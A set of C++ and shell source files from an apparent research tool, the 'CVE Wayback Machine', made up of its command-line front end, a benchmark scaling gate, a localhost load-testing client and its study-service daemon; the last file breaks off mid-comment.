      std::cout << "  repaired: rebuilt from the surviving WAL/archive chain";
      if (report.lost_lsns > 0) std::cout << " (" << report.lost_lsns << " commits unrecoverable)";
      std::cout << "\n";
    }
    if (!ok) {
      std::cerr << dir << ": scrub FAILED: " << store::store_error_name(error.code) << ": "
                << error.detail
                << (options.repair ? "" : " (re-run with --repair to quarantine and rebuild)")
                << "\n";
      return 1;
    }
    std::cout << dir << ": ok (every file digest-clean, every index consistent)\n";
    return 0;
  }

  std::cerr << "unknown store action '" << action
            << "' (expected ingest, query, stat, checkpoint, compact, verify, or scrub)\n";
  return 2;
}

int cmd_rules() {
  std::cout << ids::generate_study_ruleset().serialize();
  return 0;
}

int cmd_baselines() {
  const auto probs = lifecycle::pair_probabilities(lifecycle::cert_model());
  report::TextTable table({"desideratum", "baseline f_d"});
  for (const auto& d : lifecycle::studied_desiderata()) {
    table.add_row({d.label(),
                   report::fmt(probs[lifecycle::index_of(d.before)][lifecycle::index_of(d.after)],
                               4)});
  }
  std::cout << table.render();
  return 0;
}

int cmd_artifacts(const Options&) {
  const auto timelines = lifecycle::study_timelines();
  std::cout << report::artifacts_document(timelines).dump(2) << "\n";
  return 0;
}

int cmd_pcap(const Options& options) {
  if (options.positional.empty()) {
    std::cerr << "usage: cvewb pcap <file> [--seed N] [--scale F]\n";
    return 2;
  }
  const auto config = study_config(options);
  const auto dscope = pipeline::make_study_telescope(config);
  traffic::InternetConfig internet;
  internet.seed = config.seed;
  internet.event_scale = config.event_scale;
  const auto traffic = traffic::generate_traffic(dscope, internet);
  std::ofstream out(options.positional[0], std::ios::binary);
  if (!out) {
    std::cerr << "cannot open " << options.positional[0] << "\n";
    return 1;
  }
  net::PcapWriter writer(out, 1460);
  for (const auto& session : traffic.sessions) writer.write_session(session);
  std::cout << "wrote " << writer.packets_written() << " packets ("
            << traffic.sessions.size() << " sessions) to " << options.positional[0] << "\n";
  return 0;
}

int cmd_dataset() {
  std::cout << data::cve_table_to_csv(data::appendix_e());
  return 0;
}

int cmd_export(const Options& options) {
  if (options.positional.empty()) {
    std::cerr << "usage: cvewb export <directory> [--seed N] [--scale F]\n";
    return 2;
  }
  auto observability = make_observability(options);
  pipeline::StudyConfig config = study_config(options);
  config.observability = observability.get();
  const auto result = pipeline::run_study(config);
  const auto written = report::export_study(options.positional[0], result);
  for (const auto& path : written) std::cout << "wrote " << path.string() << "\n";
  if (!write_observability(observability.get(), options)) return 1;
  return 0;
}

/// Structural validation of an emitted trace file: parseable JSON, a
/// non-empty `traceEvents` array, and every event carrying the fields the
/// Chrome trace-event viewers require.  Exits nonzero (with a diagnostic
/// naming the first offending event) on any violation, so CI smoke tests
/// can gate on it.
int cmd_trace_verify(const Options& options) {
  if (options.positional.empty()) {
    std::cerr << "usage: cvewb trace-verify <trace.json>\n";
    return 2;
  }
  const std::string& path = options.positional[0];
  std::ifstream in(path);
  if (!in) {
    std::cerr << "cannot open " << path << "\n";
    return 1;
  }
  std::stringstream buffer;
  buffer << in.rdbuf();
  std::string parse_error;
  const auto doc = util::parse_json(buffer.str(), parse_error);
  if (!doc) {
    std::cerr << path << ": not valid JSON: " << parse_error << "\n";
    return 1;
  }
  const util::Json* events = doc->find("traceEvents");
  if (events == nullptr) {
    std::cerr << path << ": missing traceEvents\n";
    return 1;
  }
  if (events->type() != util::Json::Type::kArray || events->as_array().empty()) {
    std::cerr << path << ": traceEvents is empty\n";
    return 1;
  }
  const auto fail = [&path](std::size_t i, const char* what) {
    std::cerr << path << ": traceEvents[" << i << "]: " << what << "\n";
    return 1;
  };
  const auto is_string = [](const util::Json* v) {
    return v != nullptr && v->type() == util::Json::Type::kString;
  };
  const auto is_number = [](const util::Json* v) {
    return v != nullptr && v->type() == util::Json::Type::kNumber;
  };
  const util::JsonArray& array = events->as_array();
  for (std::size_t i = 0; i < array.size(); ++i) {
    const util::Json& event = array[i];
    if (event.type() != util::Json::Type::kObject) return fail(i, "not an object");
    const util::Json* name = event.find("name");
    if (!is_string(name) || name->as_string().empty()) return fail(i, "missing or empty name");
    const util::Json* ph = event.find("ph");
    if (!is_string(ph) || ph->as_string() != "X") return fail(i, "ph is not \"X\"");
    const util::Json* ts = event.find("ts");
    if (!is_number(ts) || ts->as_number() < 0) return fail(i, "missing or negative ts");
    const util::Json* dur = event.find("dur");
    if (!is_number(dur) || dur->as_number() < 0) return fail(i, "missing or negative dur");
    if (!is_number(event.find("tid"))) return fail(i, "missing tid");
  }
  std::cout << path << ": ok (" << array.size() << " events)\n";
  return 0;
}

int cmd_lifecycle(const Options& options) {
  if (options.positional.empty()) {
    std::cerr << "usage: cvewb lifecycle <CVE-id>\n";
    return 2;
  }
  const auto& id = options.positional[0];
  for (const auto& tl : lifecycle::study_timelines()) {
    if (tl.cve_id() != id) continue;
    const auto published = tl.at(lifecycle::Event::kPublicAwareness);
    report::TextTable table({"event", "instant", "offset from P"});
    for (lifecycle::Event e : lifecycle::kAllEvents) {
      const auto t = tl.at(e);
      table.add_row({std::string(lifecycle::event_name(e)),
                     t ? util::format_datetime(*t) : std::string("-"),
                     t && published ? util::format_offset(*t - *published) : std::string("-")});
    }
    std::cout << table.render();
    return 0;
  }
  std::cerr << id << " is not one of the 63 studied CVEs\n";
  return 1;
}

void usage() {
  std::cerr << "usage: cvewb <study|rules|baselines|artifacts|pcap|export|dataset|lifecycle|trace-verify|cache|store> [options]\n"
               "  study      run the end-to-end study (--seed, --scale, --threads,\n"
               "             --trace-out FILE, --metrics-out FILE, --cache-dir DIR,\n"
               "             --store-dir DIR, --digest-out FILE, --deadline-ms N,\n"
               "             --max-retries N, --no-dag (barrier-per-stage scheduling;\n"
               "             results are byte-identical either way);\n"
               "             SIGINT/SIGTERM checkpoint and exit 75, rerun to resume)\n"
               "  rules      print the synthetic Snort-subset study ruleset\n"
               "  baselines  print the CERT Markov baseline probabilities\n"
               "  artifacts  emit machine-readable disclosure artifacts (JSON)\n"
               "  pcap FILE  generate a capture archive (--seed, --scale)\n"
               "  export DIR write tables/figures/artifacts to a directory\n"
               "             (also accepts --trace-out / --metrics-out)\n"
               "  dataset    dump the studied-CVE table as CSV\n"
               "  lifecycle CVE-YYYY-NNNN  print one studied CVE's timeline\n"
               "  trace-verify FILE  validate an emitted Chrome trace-event file\n"
               "  cache stat DIR     summarize a stage-cache directory\n"
               "  cache gc DIR       drop corrupt entries, evict oldest past --keep-bytes N\n"
               "  store ingest DIR   run the study and commit it to the session store\n"
               "  store query DIR    planned scan over the store (--table sessions|events,\n"
               "                     --cve, --run, --begin, --end, --src, --sid, --limit,\n"
               "                     --mode index|brute, --explain); prints count + plan\n"
               "                     + digest + rows\n"
               "  store stat DIR     store row/run/WAL/tier counters\n"
               "  store compact DIR  merge the base tier chain into one snapshot\n"
               "  store verify DIR   deep consistency check (rebuild + compare indexes)\n"
               "  store scrub DIR    re-validate every file against its on-disk bytes;\n"
               "                     --repair quarantines damage and rebuilds from the\n"
               "                     surviving WAL/archive chain\n";
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    usage();
    return 2;
  }
  const std::string command = argv[1];
  Options options;
  if (!parse_options(argc, argv, options)) return 2;
  if (command == "study") return cmd_study(options);
  if (command == "rules") return cmd_rules();
  if (command == "baselines") return cmd_baselines();
  if (command == "artifacts") return cmd_artifacts(options);
  if (command == "pcap") return cmd_pcap(options);
  if (command == "export") return cmd_export(options);
  if (command == "dataset") return cmd_dataset();
  if (command == "lifecycle") return cmd_lifecycle(options);
  if (command == "trace-verify") return cmd_trace_verify(options);
  if (command == "cache") return cmd_cache(options);
  if (command == "store") return cmd_store(options);
  usage();
  return 2;
}
