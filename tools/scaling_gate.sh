#!/bin/sh
# Scaling regression gate over bench_perf_parallel.
#
#   scaling_gate.sh <bench_perf_parallel-binary> <workdir>
#
# Runs the parallel bench at a downscaled corpus (CVEWB_SCALE, default
# 0.02) and enforces its gates object:
#
#   - reconstruct_speedup: the SoA engine must stay >= 2x over the
#     retained pre-rewrite baseline.  In-process and single-threaded, so
#     it gates on every host, including 1-core CI runners.
#   - parallel_speedup_2t / _4t: run_study scaling.  The bench marks
#     these "skipped (N core)" on hosts without the cores; this script
#     treats a skip as a skip -- and additionally REQUIRES the skip
#     marker on 1-core hosts, so "no parallelism available" can never be
#     recorded as "parallelism works" (the silent hardware_concurrency=1
#     trap this gate exists to close).
#
# The bench itself exits nonzero on any gate status "fail" or on a
# determinism mismatch between legs; this wrapper adds the JSON sanity
# checks and prints the gate lines into the test log.
set -eu

BENCH=$1
DIR=$2

mkdir -p "$DIR"
OUT="$DIR/BENCH_parallel.json"

# Keep the gate fast: tiny corpus unless the caller overrides.
CVEWB_SCALE="${CVEWB_SCALE:-0.02}" "$BENCH" "$OUT"

# The bench passed; now require the report to actually carry the fields
# the gate contract promises (a schema regression should fail loudly).
for field in cores_detected reconstruct_speedup parallel_speedup_2t \
             parallel_speedup_4t sessions_per_sec; do
  grep -q "\"$field\"" "$OUT" || {
    echo "scaling_gate: $OUT is missing \"$field\"" >&2
    exit 1
  }
done

if grep -q '"status": *"fail"' "$OUT"; then
  echo "scaling_gate: a gate failed (bench should have exited nonzero):" >&2
  grep -B1 '"status": *"fail"' "$OUT" >&2
  exit 1
fi

cores=$(sed -n 's/.*"cores_detected": *\([0-9]*\).*/\1/p' "$OUT" | head -n1)
if [ "$cores" = "1" ]; then
  # On a single core the parallel gates must be marked skipped, never pass.
  skips=$(grep -c '"status": *"skipped (1 core)"' "$OUT" || true)
  if [ "$skips" -lt 2 ]; then
    echo "scaling_gate: 1 core detected but parallel gates not marked skipped" >&2
    exit 1
  fi
  echo "scaling_gate: 1 core -- parallel speedup gates skipped (recorded, not passed)"
else
  echo "scaling_gate: $cores cores -- parallel speedup gates enforced"
fi

echo "scaling_gate: OK"
