// cvewb-load -- protocol client and load generator for cvewbd.
//
//   cvewb-load once PORT [--seed N] [--scale F] [--threads N] [--deadline-ms N]
//       submit one study, poll to completion, print the result digest on
//       stdout (the daemon-side digest; compare against `cvewb study
//       --digest-out` to prove the service is a determinism-preserving
//       wrapper).  Exits 0 on complete, 75 when the job checkpointed
//       resumably (cancelled/expired with a journal), 1 otherwise.
//
//   cvewb-load submit PORT [--seed N] [--scale F] [--detach]
//       fire one submission and print the job id without waiting -- the
//       drain smoke uses this to park a running study before SIGTERM.
//
//   cvewb-load swarm PORT --clients N [--p99-ms B]
//       N sequential short-lived clients, each timing connect-to-first-
//       reply-byte for a ping while the daemon is (presumably) busy;
//       prints the latency distribution and fails if p99 exceeds B.
//
//   cvewb-load overload PORT --burst N [--scale F]
//       one connection, N back-to-back submissions; prints
//       "accepted A rejected R" and requires every rejection to be a
//       structured `overloaded` reply with a positive retry_after_ms.
//
//   cvewb-load disconnect PORT --clients N [--scale F]
//       N clients submit one job each and slam the connection shut;
//       a control client then polls stats until queued+running reaches 0
//       (disconnect must cancel owned jobs) and asserts no job leaked.
//
// All modes connect to 127.0.0.1.  PORT may be a number or a file
// containing one (the daemon's --port-file).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstring>
#include <fstream>
#include <iostream>
#include <string>
#include <thread>
#include <vector>

#include "util/json.h"
#include "util/strings.h"

namespace {

using namespace cvewb;
using std::chrono::steady_clock;

struct Options {
  std::string mode;
  std::uint16_t port = 0;
  std::uint64_t seed = 7;
  double scale = 0.01;
  int threads = 1;
  std::int64_t deadline_ms = 0;
  bool detach = false;
  int clients = 8;
  int burst = 16;
  double p99_ms = 2000;
};

/// Blocking line-oriented protocol client.
class Client {
 public:
  ~Client() {
    if (fd_ >= 0) ::close(fd_);
  }

  bool connect_to(std::uint16_t port) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd_ < 0) return false;
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    ::inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
    if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
      ::close(fd_);
      fd_ = -1;
      return false;
    }
    return true;
  }

  bool send_line(const std::string& line) {
    std::string frame = line + "\n";
    std::size_t sent = 0;
    while (sent < frame.size()) {
      const auto n = ::send(fd_, frame.data() + sent, frame.size() - sent, MSG_NOSIGNAL);
      if (n <= 0) return false;
      sent += static_cast<std::size_t>(n);
    }
    return true;
  }

  /// Read one newline-terminated frame (blocking).
  bool read_line(std::string& line) {
    for (;;) {
      const auto newline = buf_.find('\n');
      if (newline != std::string::npos) {
        line = buf_.substr(0, newline);
        buf_.erase(0, newline + 1);
        return true;
      }
      char chunk[4096];
      const auto n = ::recv(fd_, chunk, sizeof chunk, 0);
      if (n <= 0) return false;
      buf_.append(chunk, static_cast<std::size_t>(n));
    }
  }

  /// Send a request and parse the JSON reply; exits the process on
  /// transport or parse failure (load-tester modes treat that as fatal).
  util::Json round_trip(const util::Json& request) {
    std::string line;
    if (!send_line(request.dump()) || !read_line(line)) {
      std::cerr << "cvewb-load: connection lost mid-exchange\n";
      std::exit(1);
    }
    std::string error;
    auto doc = util::parse_json(line, error);
    if (!doc) {
      std::cerr << "cvewb-load: unparseable reply: " << error << "\n";
      std::exit(1);
    }
    return std::move(*doc);
  }

  /// Abrupt close without draining -- the disconnect mode wants the
  /// server to see the connection vanish with a job still attached.
  void slam() {
    if (fd_ < 0) return;
    struct linger lg{1, 0};  // RST instead of FIN where the stack allows
    ::setsockopt(fd_, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
    ::close(fd_);
    fd_ = -1;
  }

  int fd() const { return fd_; }

 private:
  int fd_ = -1;
  std::string buf_;
};

util::Json submit_request(const Options& options) {
  util::Json request;
  request.set("op", util::Json("submit"));
  request.set("seed", util::Json(static_cast<std::int64_t>(options.seed)));
  request.set("scale", util::Json(options.scale));
  request.set("threads", util::Json(static_cast<std::int64_t>(options.threads)));
  if (options.deadline_ms > 0) request.set("deadline_ms", util::Json(options.deadline_ms));
  if (options.detach) request.set("detach", util::Json(true));
  return request;
}

std::string string_field(const util::Json& doc, std::string_view key) {
  const util::Json* value = doc.find(key);
  if (value == nullptr || value->type() != util::Json::Type::kString) return {};
  return value->as_string();
}

std::int64_t int_field(const util::Json& doc, std::string_view key, std::int64_t fallback = 0) {
  const util::Json* value = doc.find(key);
  if (value == nullptr || value->type() != util::Json::Type::kNumber) return fallback;
  return value->as_int64();
}

bool ok_field(const util::Json& doc) {
  const util::Json* value = doc.find("ok");
  return value != nullptr && value->type() == util::Json::Type::kBool && value->as_bool();
}

int mode_once(const Options& options) {
  Client client;
  if (!client.connect_to(options.port)) {
    std::cerr << "cvewb-load: cannot connect to port " << options.port << "\n";
    return 1;
  }
  const util::Json admitted = client.round_trip(submit_request(options));
  if (!ok_field(admitted)) {
    std::cerr << "cvewb-load: submit rejected: " << admitted.dump() << "\n";
    return 1;
  }
  const std::string job = string_field(admitted, "job");
  for (;;) {
    util::Json query;
    query.set("op", util::Json("query"));
    query.set("job", util::Json(job));
    const util::Json status = client.round_trip(query);
    const std::string state = string_field(status, "state");
    if (state == "queued" || state == "running") {
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
      continue;
    }
    if (state == "complete") {
      std::cout << string_field(status, "digest") << "\n";
      std::cerr << "cvewb-load: " << job << " complete, summary "
                << (status.find("summary") != nullptr ? status.find("summary")->dump() : "{}")
                << "\n";
      return 0;
    }
    std::cerr << "cvewb-load: " << job << " " << state << ": " << string_field(status, "message")
              << "\n";
    const util::Json* resumable = status.find("resumable");
    if (resumable != nullptr && resumable->type() == util::Json::Type::kBool &&
        resumable->as_bool()) {
      return 75;  // checkpointed; a resubmission will resume
    }
    return 1;
  }
}

int mode_submit(const Options& options) {
  Client client;
  if (!client.connect_to(options.port)) {
    std::cerr << "cvewb-load: cannot connect to port " << options.port << "\n";
    return 1;
  }
  const util::Json reply = client.round_trip(submit_request(options));
  if (!ok_field(reply)) {
    std::cerr << "cvewb-load: submit rejected: " << reply.dump() << "\n";
    return 1;
  }
  std::cout << string_field(reply, "job") << "\n";
  return 0;
}

int mode_swarm(const Options& options) {
  std::vector<double> latencies_ms;
  latencies_ms.reserve(static_cast<std::size_t>(options.clients));
  for (int i = 0; i < options.clients; ++i) {
    Client client;
    const auto start = steady_clock::now();
    if (!client.connect_to(options.port)) {
      std::cerr << "cvewb-load: client " << i << " cannot connect\n";
      return 1;
    }
    util::Json ping;
    ping.set("op", util::Json("ping"));
    if (!client.send_line(ping.dump())) return 1;
    // First byte of the reply is the latency that matters: it proves the
    // event loop is still turning even when the workers are saturated.
    char byte = 0;
    const auto n = ::recv(client.fd(), &byte, 1, 0);
    if (n != 1) {
      std::cerr << "cvewb-load: client " << i << " got no reply byte\n";
      return 1;
    }
    const auto elapsed = steady_clock::now() - start;
    latencies_ms.push_back(std::chrono::duration<double, std::milli>(elapsed).count());
  }
  std::sort(latencies_ms.begin(), latencies_ms.end());
  const auto percentile = [&latencies_ms](double p) {
    const auto index = static_cast<std::size_t>(p * (latencies_ms.size() - 1));
    return latencies_ms[index];
  };
  const double p50 = percentile(0.50);
  const double p99 = percentile(0.99);
  std::cout << "clients " << options.clients << " p50_ms " << p50 << " p99_ms " << p99 << "\n";
  if (p99 > options.p99_ms) {
    std::cerr << "cvewb-load: p99 " << p99 << "ms exceeds bound " << options.p99_ms << "ms\n";
    return 1;
  }
  return 0;
}

int mode_overload(const Options& options) {
  Client client;
  if (!client.connect_to(options.port)) {
    std::cerr << "cvewb-load: cannot connect to port " << options.port << "\n";
    return 1;
  }
  int accepted = 0;
  int rejected = 0;
  for (int i = 0; i < options.burst; ++i) {
    const util::Json reply = client.round_trip(submit_request(options));
    if (ok_field(reply)) {
      ++accepted;
      continue;
    }
    // Every rejection must be structured: the overloaded verdict and a
    // positive Retry-After hint, not a dropped connection or silence.
    if (string_field(reply, "error") != "overloaded" || int_field(reply, "retry_after_ms") <= 0) {
      std::cerr << "cvewb-load: unstructured rejection: " << reply.dump() << "\n";
      return 1;
    }
    ++rejected;
  }
  std::cout << "accepted " << accepted << " rejected " << rejected << "\n";
  return 0;
}

int mode_disconnect(const Options& options) {
  for (int i = 0; i < options.clients; ++i) {
    Client client;
    if (!client.connect_to(options.port)) {
      std::cerr << "cvewb-load: client " << i << " cannot connect\n";
      return 1;
    }
    const util::Json reply = client.round_trip(submit_request(options));
    if (!ok_field(reply)) {
      std::cerr << "cvewb-load: client " << i << " submit rejected: " << reply.dump() << "\n";
      return 1;
    }
    client.slam();
  }
  // Control connection: the daemon must notice the disconnects and cancel
  // every owned job; poll stats until nothing is queued or running.
  Client control;
  if (!control.connect_to(options.port)) {
    std::cerr << "cvewb-load: control client cannot connect\n";
    return 1;
  }
  const auto give_up = steady_clock::now() + std::chrono::seconds(30);
  for (;;) {
    util::Json stats;
    stats.set("op", util::Json("stats"));
    const util::Json reply = control.round_trip(stats);
    const std::int64_t queued = int_field(reply, "queued");
    const std::int64_t running = int_field(reply, "running");
    if (queued == 0 && running == 0) {
      std::cout << "drained: cancelled " << int_field(reply, "cancelled") << " of "
                << int_field(reply, "submitted") << " submitted\n";
      return 0;
    }
    if (steady_clock::now() > give_up) {
      std::cerr << "cvewb-load: jobs leaked after mass disconnect: queued " << queued
                << " running " << running << "\n";
      return 1;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
}

std::uint16_t resolve_port(const std::string& spec) {
  // A bare number is a port; anything else is a --port-file to read.
  std::uint64_t value = 0;
  if (util::parse_u64(spec, value) && value > 0 && value < 65536) {
    return static_cast<std::uint16_t>(value);
  }
  std::ifstream in(spec);
  unsigned long from_file = 0;
  if (in >> from_file && from_file > 0 && from_file < 65536) {
    return static_cast<std::uint16_t>(from_file);
  }
  return 0;
}

void usage() {
  std::cerr << "usage: cvewb-load <once|submit|swarm|overload|disconnect> PORT [options]\n"
               "  once        submit, wait, print digest (--seed --scale --threads --deadline-ms)\n"
               "  submit      submit and print job id (--seed --scale --detach)\n"
               "  swarm       ping latency sweep (--clients N --p99-ms B)\n"
               "  overload    burst submissions (--burst N --scale F)\n"
               "  disconnect  mass submit-and-slam, verify zero leaked jobs (--clients N)\n"
               "  PORT is a number or a file written by cvewbd --port-file\n";
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) {
    usage();
    return 2;
  }
  Options options;
  options.mode = argv[1];
  options.port = resolve_port(argv[2]);
  if (options.port == 0) {
    std::cerr << "cvewb-load: cannot resolve port from '" << argv[2] << "'\n";
    return 2;
  }
  // Numeric flags go through the shared full-token parsers so a mangled
  // value aborts the load run instead of hammering the daemon with a
  // zeroed client count.
  const auto bad_value = [](const std::string& flag, const char* got) {
    std::cerr << "cvewb-load: bad value for " << flag << ": '" << got << "'\n";
    return 2;
  };
  const auto parse_count = [](const char* text, int& out) {
    std::int64_t value = 0;
    if (!util::parse_i64(text, value) || value < 0 || value > 1 << 20) return false;
    out = static_cast<int>(value);
    return true;
  };
  for (int i = 3; i < argc; ++i) {
    const std::string arg = argv[i];
    const bool has_value = i + 1 < argc;
    if (arg == "--seed" && has_value) {
      if (!util::parse_u64(argv[++i], options.seed)) return bad_value(arg, argv[i]);
    } else if (arg == "--scale" && has_value) {
      if (!util::parse_finite_double(argv[++i], options.scale)) return bad_value(arg, argv[i]);
    } else if (arg == "--threads" && has_value) {
      if (!parse_count(argv[++i], options.threads)) return bad_value(arg, argv[i]);
    } else if (arg == "--deadline-ms" && has_value) {
      if (!util::parse_i64(argv[++i], options.deadline_ms)) return bad_value(arg, argv[i]);
    } else if (arg == "--detach") {
      options.detach = true;
    } else if (arg == "--clients" && has_value) {
      if (!parse_count(argv[++i], options.clients)) return bad_value(arg, argv[i]);
    } else if (arg == "--burst" && has_value) {
      if (!parse_count(argv[++i], options.burst)) return bad_value(arg, argv[i]);
    } else if (arg == "--p99-ms" && has_value) {
      if (!util::parse_finite_double(argv[++i], options.p99_ms)) return bad_value(arg, argv[i]);
    } else {
      usage();
      return 2;
    }
  }
  if (options.mode == "once") return mode_once(options);
  if (options.mode == "submit") return mode_submit(options);
  if (options.mode == "swarm") return mode_swarm(options);
  if (options.mode == "overload") return mode_overload(options);
  if (options.mode == "disconnect") return mode_disconnect(options);
  usage();
  return 2;
}
