// cvewbd -- study service daemon for the CVE Wayback Machine.
//
//   cvewbd [--bind ADDR] [--port N] [--port-file FILE]
//          [--workers N] [--backlog N] [--cache-dir DIR] [--store-dir DIR]
//          [--deadline-ms N] [--idle-timeout-ms N] [--max-frame-bytes N]
//          [--metrics-out FILE]
//          [--fault-seed N] [--fault-short-read R] [--fault-short-write R]
//          [--fault-stall R] [--fault-reset R]
//
// Speaks the newline-delimited JSON protocol on a TCP socket: clients
// submit studies ({"op":"submit","seed":7,"scale":0.01,...}), poll their
// job ({"op":"query","job":"j1"}), cancel, or read scheduler stats.  The
// scheduler admits work against a bounded backlog and rejects the rest
// with a structured `overloaded` reply carrying a retry_after_ms hint.
//
// With --port 0 (the default) the kernel picks an ephemeral port; pass
// --port-file so scripts can learn it.  SIGTERM/SIGINT trigger a graceful
// drain: the daemon stops accepting, cancels queued work, fires every
// running study's cancel token (each checkpoints via its --cache-dir
// journal), flushes what it can, and exits 0.  Resubmitting against a
// restarted daemon with the same cache dir resumes from those journals.
//
// The --fault-* flags engage the deterministic socket fault layer -- the
// same plans the chaos tests use -- so operators can rehearse network
// misbehaviour against a live daemon.
#include <csignal>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <string>

#include "daemon/server.h"
#include "obs/observability.h"

namespace {

using namespace cvewb;

daemon::Server* g_server = nullptr;

extern "C" void handle_shutdown_signal(int) {
  if (g_server != nullptr) g_server->request_shutdown();
}

struct Options {
  daemon::ServerConfig server;
  std::string port_file;
  std::string metrics_out;
  bool parse_ok = true;
};

Options parse_options(int argc, char** argv) {
  Options options;
  auto& server = options.server;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const bool has_value = i + 1 < argc;
    if (arg == "--bind" && has_value) {
      server.bind_address = argv[++i];
    } else if (arg == "--port" && has_value) {
      server.port = static_cast<std::uint16_t>(std::strtoul(argv[++i], nullptr, 10));
    } else if (arg == "--port-file" && has_value) {
      options.port_file = argv[++i];
    } else if (arg == "--workers" && has_value) {
      server.scheduler.workers = static_cast<int>(std::strtol(argv[++i], nullptr, 10));
    } else if (arg == "--backlog" && has_value) {
      server.scheduler.backlog_capacity = static_cast<int>(std::strtol(argv[++i], nullptr, 10));
    } else if (arg == "--cache-dir" && has_value) {
      server.scheduler.cache_dir = argv[++i];
    } else if (arg == "--store-dir" && has_value) {
      server.store_dir = argv[++i];
    } else if (arg == "--deadline-ms" && has_value) {
      server.scheduler.default_deadline =
          std::chrono::milliseconds(std::strtoll(argv[++i], nullptr, 10));
    } else if (arg == "--idle-timeout-ms" && has_value) {
      server.idle_timeout = std::chrono::milliseconds(std::strtoll(argv[++i], nullptr, 10));
    } else if (arg == "--max-frame-bytes" && has_value) {
      server.max_frame_bytes = std::strtoull(argv[++i], nullptr, 10);
    } else if (arg == "--metrics-out" && has_value) {
      options.metrics_out = argv[++i];
    } else if (arg == "--fault-seed" && has_value) {
      server.fault_plan.seed = std::strtoull(argv[++i], nullptr, 10);
    } else if (arg == "--fault-short-read" && has_value) {
      server.fault_plan.short_read_rate = std::strtod(argv[++i], nullptr);
    } else if (arg == "--fault-short-write" && has_value) {
      server.fault_plan.short_write_rate = std::strtod(argv[++i], nullptr);
    } else if (arg == "--fault-stall" && has_value) {
      server.fault_plan.stall_rate = std::strtod(argv[++i], nullptr);
    } else if (arg == "--fault-reset" && has_value) {
      server.fault_plan.reset_rate = std::strtod(argv[++i], nullptr);
    } else {
      std::cerr << "unknown or incomplete option '" << arg << "'\n";
      options.parse_ok = false;
      return options;
    }
  }
  return options;
}

void usage() {
  std::cerr << "usage: cvewbd [--bind ADDR] [--port N] [--port-file FILE]\n"
               "              [--workers N] [--backlog N] [--cache-dir DIR]\n"
               "              [--store-dir DIR]\n"
               "              [--deadline-ms N] [--idle-timeout-ms N]\n"
               "              [--max-frame-bytes N] [--metrics-out FILE]\n"
               "              [--fault-seed N] [--fault-short-read R]\n"
               "              [--fault-short-write R] [--fault-stall R] [--fault-reset R]\n";
}

}  // namespace

int main(int argc, char** argv) {
  const Options options = parse_options(argc, argv);
  if (!options.parse_ok) {
    usage();
    return 2;
  }

  obs::Observability observability;
  daemon::Server server(options.server, &observability);
  if (!server.start()) {
    std::cerr << "cvewbd: cannot bind " << options.server.bind_address << ":"
              << options.server.port << ": " << std::strerror(errno) << "\n";
    return 1;
  }

  if (!options.port_file.empty()) {
    std::ofstream out(options.port_file);
    if (!out) {
      std::cerr << "cvewbd: cannot write " << options.port_file << "\n";
      return 1;
    }
    out << server.port() << "\n";
  }
  std::cerr << "cvewbd: listening on " << options.server.bind_address << ":" << server.port()
            << "\n";

  g_server = &server;
  std::signal(SIGTERM, handle_shutdown_signal);
  std::signal(SIGINT, handle_shutdown_signal);
  std::signal(SIGPIPE, SIG_IGN);

  server.run();  // returns after a signal-triggered graceful drain

  std::signal(SIGTERM, SIG_DFL);
  std::signal(SIGINT, SIG_DFL);
  g_server = nullptr;

  if (!options.metrics_out.empty()) {
    std::ofstream out(options.metrics_out);
    if (!out) {
      std::cerr << "cvewbd: cannot write " << options.metrics_out << "\n";
      return 1;
    }
    out << observability.to_json().dump(2) << "\n";
    std::cerr << "cvewbd: wrote " << options.metrics_out << "\n";
  }

  const daemon::ServerStats stats = server.stats();
  std::cerr << "cvewbd: drained (" << stats.accepted << " connections, " << stats.frames_in
            << " frames in, " << stats.replies_out << " replies out)\n";
  return 0;
}
