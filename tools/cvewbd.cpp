// cvewbd -- study service daemon for the CVE Wayback Machine.
//
//   cvewbd [--bind ADDR] [--port N] [--port-file FILE]
//          [--workers N] [--backlog N] [--cache-dir DIR] [--store-dir DIR]
//          [--deadline-ms N] [--idle-timeout-ms N] [--max-frame-bytes N]
//          [--metrics-out FILE]
//          [--scrub-interval-ms N] [--budget-soft-bytes N]
//          [--budget-hard-bytes N] [--bytes-per-weight N]
//          [--fault-seed N] [--fault-short-read R] [--fault-short-write R]
//          [--fault-stall R] [--fault-reset R]
//
// Speaks the newline-delimited JSON protocol on a TCP socket: clients
// submit studies ({"op":"submit","seed":7,"scale":0.01,...}), poll their
// job ({"op":"query","job":"j1"}), cancel, or read scheduler stats.  The
// scheduler admits work against a bounded backlog and rejects the rest
// with a structured `overloaded` reply carrying a retry_after_ms hint.
//
// With --port 0 (the default) the kernel picks an ephemeral port; pass
// --port-file so scripts can learn it.  SIGTERM/SIGINT trigger a graceful
// drain: the daemon stops accepting, cancels queued work, fires every
// running study's cancel token (each checkpoints via its --cache-dir
// journal), flushes what it can, and exits 0.  Resubmitting against a
// restarted daemon with the same cache dir resumes from those journals.
//
// The --fault-* flags engage the deterministic socket fault layer -- the
// same plans the chaos tests use -- so operators can rehearse network
// misbehaviour against a live daemon.
#include <csignal>
#include <cstdint>
#include <cstring>
#include <fstream>
#include <iostream>
#include <string>

#include "daemon/server.h"
#include "obs/observability.h"
#include "util/memory_budget.h"
#include "util/strings.h"

namespace {

using namespace cvewb;

daemon::Server* g_server = nullptr;

extern "C" void handle_shutdown_signal(int) {
  if (g_server != nullptr) g_server->request_shutdown();
}

struct Options {
  daemon::ServerConfig server;
  std::string port_file;
  std::string metrics_out;
  // Process memory-budget watermarks (0 = unlimited), applied to
  // util::MemoryBudget::process() before the server starts.
  std::uint64_t budget_soft_bytes = 0;
  std::uint64_t budget_hard_bytes = 0;
  bool parse_ok = true;
};

// Every numeric flag goes through the shared full-token parsers
// (util/strings.h), so a typo'd value is a startup usage error rather
